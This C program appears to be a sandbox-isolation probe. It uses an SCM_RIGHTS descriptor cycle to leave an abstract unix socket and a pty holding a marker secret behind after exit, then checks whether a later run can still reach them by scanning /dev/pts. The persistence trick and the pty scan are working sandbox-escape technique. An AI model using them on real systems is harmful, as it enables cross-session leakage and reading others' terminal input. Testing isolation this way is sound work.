/*
 * unixleft.c -- ATTACK: leave a listening unix socket behind for the next run of a warm sandbox.
 *
 * A unix socket does not always die with the processes that had it: one whose descriptor is in
 * flight (SCM_RIGHTS) lives until the kernel's unix garbage collector finds it, asynchronously.
 * Here a listener bound to an abstract name (abstract names live in the network namespace, which
 * a warm sandbox keeps for its next run when no network socket was made) is sent over a
 * connection into the queue of that connection's own unaccepted end: the listener holds the
 * connection, the connection's queue holds the listener, and no process holds either. A pty
 * master goes along, with a secret written to it: its slave, /dev/pts/N in the sandbox's own
 * devpts (which a warm sandbox keeps), holds that input for whoever opens it next.
 *
 * Usage: ./unixleft MARKER plant
 *          makes the listener "@corral-unixleft-MARKER", a pty with the secret, and the cycle;
 *          prints "PLANTED", exits.
 *        ./unixleft MARKER check
 *          connects to that name: "SEEN <name>" (an earlier run's socket is still there) or
 *          "GONE <errno>"; then reads every /dev/pts slave it can open: "ESCAPED: read <secret>"
 *          when an earlier run's input is there.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stddef.h>
#include <stdlib.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static int send_fd(int over, int fd) {
    char cbuf[CMSG_SPACE(sizeof fd)];
    char byte = 'x';
    struct iovec iov = {&byte, 1};
    struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
    struct cmsghdr *c = CMSG_FIRSTHDR(&m);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof fd);
    memcpy(CMSG_DATA(c), &fd, sizeof fd);
    return sendmsg(over, &m, 0) < 0 ? -1 : 0;
}

int main(int argc, char **argv) {
    if (argc < 3) { fprintf(stderr, "usage: unixleft MARKER plant|check\n"); return 2; }
    char name[100];
    int n = snprintf(name, sizeof name, "corral-unixleft-%s", argv[1]);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    memcpy(a.sun_path + 1, name, n); /* sun_path[0] = 0: abstract */
    socklen_t len = offsetof(struct sockaddr_un, sun_path) + 1 + n;
    if (strcmp(argv[2], "plant") == 0) {
        int l = socket(AF_UNIX, SOCK_STREAM, 0);
        if (l < 0 || bind(l, (void *)&a, len) || listen(l, 8)) { printf("FAILED listen %s\n", strerror(errno)); return 1; }
        int c = socket(AF_UNIX, SOCK_STREAM, 0);
        if (c < 0 || connect(c, (void *)&a, len)) { printf("FAILED connect %s\n", strerror(errno)); return 1; }
        if (send_fd(c, l)) { printf("FAILED sendmsg %s\n", strerror(errno)); return 1; }
        int m = posix_openpt(O_RDWR | O_NOCTTY);
        if (m >= 0 && grantpt(m) == 0 && unlockpt(m) == 0) {
            char secret[100];
            int k = snprintf(secret, sizeof secret, "SECRET-%s\n", argv[1]);
            if (write(m, secret, k) == k && send_fd(c, m) == 0) printf("pty %s\n", ptsname(m));
        }
        int c2 = socket(AF_UNIX, SOCK_STREAM, 0);
        if (c2 < 0 || connect(c2, (void *)&a, len) || send_fd(c2, c2) || send_fd(c2, c)) {
            printf("FAILED second connection %s\n", strerror(errno));
            return 1;
        }
        printf("PLANTED\n");
        return 0;
    }
    int c = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(c, (void *)&a, len) == 0) printf("SEEN @%s\n", name);
    else printf("GONE %s\n", strerror(errno));
    for (int i = 0; i < 64; i++) {
        char path[32];
        snprintf(path, sizeof path, "/dev/pts/%d", i);
        int s = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
        if (s < 0) continue;
        char buf[128] = {0};
        ssize_t n = read(s, buf, sizeof buf - 1);
        if (n > 0 && strstr(buf, "SECRET-")) printf("ESCAPED: read %s from %s", buf, path);
        else printf("SEEN %s (nothing to read)\n", path);
        close(s);
    }
    return 0;
}
